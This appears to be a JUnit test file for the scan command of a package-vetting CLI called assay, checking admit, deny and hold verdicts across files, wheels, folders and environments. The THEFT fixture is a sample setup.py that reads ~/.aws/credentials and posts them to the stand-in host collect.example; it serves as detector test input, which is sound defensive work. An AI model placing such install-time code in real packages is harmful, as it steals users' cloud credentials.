package dev.assay.cli.command;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.Run;
import dev.assay.core.document.Node;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScanCommandTest {
  private static final String THEFT =
      """
      import os, urllib.request
      from setuptools import setup
      keys = open(os.path.expanduser("~/.aws/credentials")).read()
      urllib.request.urlopen("https://collect.example/in", keys.encode())
      setup(name="acme", version="1.0")
      """;

  private static final String HARMLESS = "def add(left, right):\n    return left + right\n";

  @TempDir private Path home;
  @TempDir private Path folder;

  @Test
  void aTheftIsDeniedWithPlaceAndRule() throws IOException {
    write("acme/setup.py", THEFT);
    Run run = scan("acme");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("deny", "acme", "setup.py:4 (credential-theft)");
    assertThat(run.err()).isEmpty();
  }

  @Test
  void harmlessCodeIsAdmitted() throws IOException {
    write("acme/__init__.py", HARMLESS);
    Run run = scan("acme");
    assertThat(run.out()).startsWith("admit  0.00  acme");
    assertThat(run.code()).isZero();
  }

  @Test
  void aFileAWheelAndAFolderAreOneObjectEachInTheOrderGiven() throws IOException {
    write("one.py", HARMLESS);
    write("acme/setup.py", THEFT);
    wheel("acme-1.0-py3-none-any.whl");
    Run run = scan("--format", "json", "acme-1.0-py3-none-any.whl", "one.py", "acme");
    List<Node> scans = run.objects();
    assertThat(scans)
        .extracting(scan -> scan.text("artifact").orElseThrow())
        .containsExactly("acme-1.0-py3-none-any.whl", "one.py", "acme");
    assertThat(scans)
        .extracting(scan -> scan.text("verdict").orElseThrow())
        .containsExactly("admit", "admit", "deny");
    assertThat(scans.getFirst().text("name")).contains("acme");
    assertThat(scans.getFirst().text("version")).contains("1.0");
    assertThat(scans.getFirst().text("sha256").orElseThrow()).hasSize(64);
  }

  @Test
  void aFolderOfArtifactsIsWalked() throws IOException {
    wheel("dist/b-1.0-py3-none-any.whl");
    wheel("dist/a-1.0-py3-none-any.whl");
    write("dist/deep/c/setup.py", THEFT);
    assertThat(scan("--format", "json", "dist").objects())
        .extracting(scan -> scan.text("artifact").orElseThrow())
        .containsExactly(
            "dist/a-1.0-py3-none-any.whl", "dist/b-1.0-py3-none-any.whl", "dist/deep/c");
  }

  @Test
  void anEnvironmentIsOneArtifactADistribution() throws IOException {
    for (String name : List.of("a", "b")) {
      write("site-packages/" + name + "/__init__.py", HARMLESS);
      String info = "site-packages/" + name + "-1.0.dist-info/";
      write(info + "METADATA", "Name: %s\nVersion: 1.0\n".formatted(name));
      write(
          info + "RECORD", "%s/__init__.py,,\n%s-1.0.dist-info/METADATA,,\n".formatted(name, name));
    }
    assertThat(scan("--format", "json", "site-packages").objects())
        .extracting(scan -> scan.text("name").orElseThrow())
        .containsExactly("a", "b");
  }

  @Test
  void pathsComeFromStandardInput() throws IOException {
    write("one.py", HARMLESS);
    Run run =
        Run.fed("one.py\n\none.py\n", folder, home, Map.of(), "scan", "--format", "json", "-");
    assertThat(run.objects()).hasSize(2);
    assertThat(run.code()).isZero();
  }

  @Test
  void whatCannotBeReadIsHeldAndEndsNothing() throws IOException {
    write("broken.whl", "PK no zip");
    write("one.py", HARMLESS);
    Run run = scan("--format", "json", "broken.whl", "absent.whl", "one.py");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.objects())
        .extracting(scan -> scan.text("verdict").orElseThrow())
        .containsExactly("hold", "hold", "admit");
    assertThat(run.objects().get(1).text("error")).contains("no such file");
  }

  @Test
  void deniedWinsOverUnreadable() throws IOException {
    write("acme/setup.py", THEFT);
    assertThat(scan("absent.whl", "acme").code()).isEqualTo(1);
  }

  @Test
  void twoRunsAreEqualButForTheTime() throws IOException {
    write("acme/setup.py", THEFT);
    String first = scan("--format", "json", "acme").out();
    assertThat(scan("--format", "json", "acme").out()).isEqualTo(first);
  }

  @Test
  void theProjectsOwnPolicyIsNotObeyed() throws IOException {
    write("acme/setup.py", THEFT);
    write("acme/assay.toml", "[rules]\ncredential-theft = \"off\"\n");
    write("assay.toml", "[rules]\ncredential-theft = \"off\"\ninstall-time-network = \"off\"\n");
    assertThat(scan("acme").code()).isEqualTo(1);
    assertThat(scan("--policy", "assay.toml", "acme").code()).isZero();
  }

  @Test
  void wrongUseIsTwo() {
    assertThat(scan().code()).isEqualTo(2);
    assertThat(scan("--format", "odd", ".").code()).isEqualTo(2);
  }

  private Run scan(String... more) {
    String[] arguments = new String[more.length + 1];
    arguments[0] = "scan";
    System.arraycopy(more, 0, arguments, 1, more.length);
    return Run.in(folder, home, arguments);
  }

  private void write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  private void wheel(String name) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
      zip.putNextEntry(new ZipEntry("acme/__init__.py"));
      zip.write(HARMLESS.getBytes(UTF_8));
      zip.putNextEntry(new ZipEntry("acme-1.0.dist-info/METADATA"));
      zip.write("Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n".getBytes(UTF_8));
    }
  }
}
